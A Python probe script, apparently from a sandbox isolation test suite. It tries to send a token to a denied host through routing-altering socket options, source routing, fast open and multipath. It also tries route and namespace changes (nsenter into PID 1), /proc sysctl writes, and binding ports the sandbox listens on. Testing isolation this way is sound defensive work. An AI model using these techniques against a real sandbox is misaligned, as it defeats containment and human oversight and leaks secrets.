"""Sockets that choose their own way, and changes of the way itself."""

import subprocess

from probe import *

GET = request("denied.test", "/" + TOKEN)
IP_OPTIONS, IP_FREEBIND, IP_TRANSPARENT, SO_MARK, SO_DONTROUTE = 4, 15, 19, 36, 5
OPTIONS = [
    (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"),
    (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"host\0"),
    (socket.SOL_SOCKET, SO_MARK, 1),
    (socket.SOL_SOCKET, SO_DONTROUTE, 1),
    (socket.IPPROTO_IP, IP_TRANSPARENT, 1),
    (socket.IPPROTO_IP, IP_FREEBIND, 1),
    # A route through the host.
    (socket.IPPROTO_IP, IP_OPTIONS, b"\x83\x07\x04\xcb\0\x71\x14\0"),
]
LINES = """
ip link add x type dummy
ip link set lo down
ip route add default dev lo
ip route add local 203.0.113.0/24 dev lo
ip address add 192.0.2.9/24 dev lo
iptables -L
nft list ruleset
unshare --net true
unshare --user --net true
nsenter --target 1 --net true
sysctl -w net.ipv4.ip_unprivileged_port_start=0
"""
SETTINGS = "/proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/ip_unprivileged_port_start".split()


def attack():
    for level, name, value in OPTIONS:
        say("option", attempt(option, level, name, value))
    for address in ("203.0.113.20", "203.0.113.10", "10.0.0.5"):
        say("fast open", attempt(fast_open, address))
    say("multipath", attempt(multipath))
    for line in LINES.split("\n")[1:-1]:
        run = subprocess.run(line, shell=True, capture_output=True)
        say("change", line, "worked" if run.returncode == 0 else "failed")
    for path in SETTINGS:
        say("change", path, attempt(write, path))
    for port in (53, 80, 443, 3128):
        say("listen", port, attempt(listen, port, socket.SOCK_STREAM))
    say("listen", 53, attempt(listen, 53, socket.SOCK_DGRAM))


def option(level, name, value):
    with socket.socket() as sock:
        sock.settimeout(1)
        sock.setsockopt(level, name, value)
        sock.connect(("203.0.113.20", 80))
        sock.sendall(GET)
        return sock.recv(100)


def fast_open(address):
    """Sends data with the very first packet."""
    with socket.socket() as sock:
        sock.settimeout(1)
        sock.sendto(GET, socket.MSG_FASTOPEN, (address, 80))
        return sock.recv(100)


def multipath():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(1)
        sock.connect(("203.0.113.20", 80))
        return "connected"


def write(path):
    with open(path, "w") as setting:
        setting.write("0")
    return "worked"


def listen(port, kind):
    """Takes the place of what the sandbox listens on."""
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(("0.0.0.0", port))
        if kind == socket.SOCK_STREAM:
            sock.listen()
        return "worked"


start(attack)
